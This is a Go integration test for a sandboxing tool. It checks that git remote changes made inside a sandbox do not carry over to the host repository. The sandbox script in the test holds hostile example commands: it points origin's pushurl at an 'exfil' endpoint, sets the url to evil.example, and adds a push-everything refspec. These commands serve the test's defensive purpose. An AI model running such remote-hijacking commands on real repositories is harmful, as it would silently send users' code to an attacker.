//go:build linux

package integration

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestRemoteURLsStayTheHosts: a sandbox without network sets the existing
// remote's pushurl to an endpoint of its choosing with a refspec that
// pushes everything, and changes its url. None of it is adopted: the
// host's next git push goes where it went before the run (judged by a
// real push to the host's bare remote, outside the workspace, and by the
// host's config). A remote the sandbox adds is adopted, and the run's
// line names it with its URL (docs/git-adoption.md).
func TestRemoteURLsStayTheHosts(t *testing.T) {
	needGit(t)
	forEachPath(t, func(t *testing.T, r runner) {
		ws := r.dir(t, "jail-it-ws-")
		remote := filepath.Join(r.dir(t, "jail-it-remote-"), "origin.git")
		r.gitRepo(t, ws)
		r.host(t, filepath.Dir(remote), "init", "-q", "--bare", remote)
		r.host(t, ws, "remote", "add", "origin", remote)
		res := r.sh(t, ws, `git config remote.origin.pushurl http://127.0.0.1:9/exfil.git &&
git config --add remote.origin.push '+refs/*:refs/*' &&
git config remote.origin.url https://evil.example/x.git &&
git remote add other https://example.com/other.git`)
		mustExit(t, res, 0)
		if out, _ := r.hostGit(t, ws, "config", "--get-all", "remote.origin.pushurl"); strings.TrimSpace(out) != "" {
			t.Errorf("the sandbox's pushurl was adopted: %q\n%s", out, res.stderr)
		}
		if out, _ := r.hostGit(t, ws, "config", "--get-all", "remote.origin.push"); strings.TrimSpace(out) != "" {
			t.Errorf("the sandbox's push refspec was adopted: %q\n%s", out, res.stderr)
		}
		if out := r.host(t, ws, "config", "remote.origin.url"); strings.TrimSpace(out) != remote {
			t.Errorf("remote.origin.url is %q, want the host's %s\n%s", out, remote, res.stderr)
		}
		if !strings.Contains(res.stderr, "remote origin existed at launch") {
			t.Errorf("no line says the remote's URLs stay the host's:\n%s", res.stderr)
		}
		if !strings.Contains(res.stderr, "remote.other.url = https://example.com/other.git (a remote the sandbox added") {
			t.Errorf("the new remote is not named with its URL:\n%s", res.stderr)
		}
		r.host(t, ws, "push", "-q", "origin", "HEAD:refs/heads/judge")
		if _, err := os.Stat(filepath.Join(remote, "refs", "heads", "judge")); err != nil {
			t.Errorf("the host's push did not reach its own remote: %v", err)
		}
	})
}
